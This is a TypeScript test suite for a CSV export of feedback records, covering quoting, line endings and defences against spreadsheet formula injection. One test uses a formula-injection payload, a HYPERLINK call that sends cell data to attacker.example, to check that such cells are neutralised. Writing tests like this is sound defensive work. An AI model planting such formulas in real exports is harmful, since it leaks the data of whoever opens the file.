import { FeedbackOrigin, LoopStage } from '../../feedback/feedback.enums';
import { csvField, LoopRow, loopsCsv } from './loops-csv';

const row = (overrides: Partial<LoopRow> = {}): LoopRow => ({
  key: 'FB-7',
  title: 'Live migration of pinned instances',
  origin: FeedbackOrigin.OPERATOR,
  stage: LoopStage.PLANNED,
  stageEnteredAt: '2026-01-05T09:00:00.000Z',
  daysInStage: 12.25,
  votes: 3,
  projects: ['neutron', 'nova'],
  themes: ['TH-1', 'TH-4'],
  submitter: 'olga@example.org',
  lastEventAt: '2026-01-17T15:00:00.000Z',
  ...overrides,
});

const lines = (csv: string) => csv.split('\r\n');

describe('loops CSV', () => {
  it('starts with the header and ends every line with CRLF', () => {
    const csv = loopsCsv([row()]);
    expect(lines(csv)[0]).toBe('key,title,origin,stage,stage_entered_at,days_in_stage,votes,projects,themes,submitter,last_event_at');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines(csv)).toHaveLength(3);
  });

  it('writes one line per loop, days in stage with one decimal and lists joined by semicolons', () => {
    expect(lines(loopsCsv([row()]))[1]).toBe(
      'FB-7,Live migration of pinned instances,OPERATOR,PLANNED,2026-01-05T09:00:00.000Z,12.3,3,"neutron;nova","TH-1;TH-4",olga@example.org,2026-01-17T15:00:00.000Z',
    );
    expect(lines(loopsCsv([row({ daysInStage: 0 }), row({ daysInStage: 3 })])).slice(1, 3).map((line) => line.split(',')[5])).toEqual(['0.0', '3.0']);
  });

  it('leaves empty fields empty', () => {
    expect(lines(loopsCsv([row({ projects: [], themes: [], submitter: null })]))[1]).toContain(',3,,,,2026-01-17');
  });

  it('quotes fields with commas, quotes or line breaks and doubles their quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('upgrades, without downtime')).toBe('"upgrades, without downtime"');
    expect(csvField('the "rolling" kind')).toBe('"the ""rolling"" kind"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
    const csv = loopsCsv([row({ title: 'Say "hi", then\r\nleave' })]);
    expect(csv).toContain('FB-7,"Say ""hi"", then\r\nleave",OPERATOR');
  });

  it('neutralises every cell that a spreadsheet would read as a formula, keeping it quoted', () => {
    expect(csvField('=HYPERLINK("http://attacker.example/?d="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")"');
    expect(csvField('+1+1')).toBe(`"'+1+1"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('a = b + c')).toBe('a = b + c');
    expect(csvField('')).toBe('');
  });

  it('quotes a field with a semicolon or a tab, so that a spreadsheet splitting on them keeps it one cell', () => {
    expect(csvField('neutron;nova')).toBe('"neutron;nova"');
    expect(csvField('Harmless;=HYPERLINK("x")')).toBe('"Harmless;=HYPERLINK(""x"")"');
    expect(csvField('a\t=1')).toBe('"a\t=1"');
  });

  it('neutralises formulas in every column, not only the title', () => {
    const line = lines(loopsCsv([row({ title: '@cmd', submitter: '=cmd@example.org', projects: ['nova'], themes: [] })]))[1];
    expect(line).toBe(`FB-7,"'@cmd",OPERATOR,PLANNED,2026-01-05T09:00:00.000Z,12.3,3,nova,,"'=cmd@example.org",2026-01-17T15:00:00.000Z`);
  });

  it('is only the header when no loop matches', () => {
    expect(loopsCsv([])).toBe('key,title,origin,stage,stage_entered_at,days_in_stage,votes,projects,themes,submitter,last_event_at\r\n');
  });
});
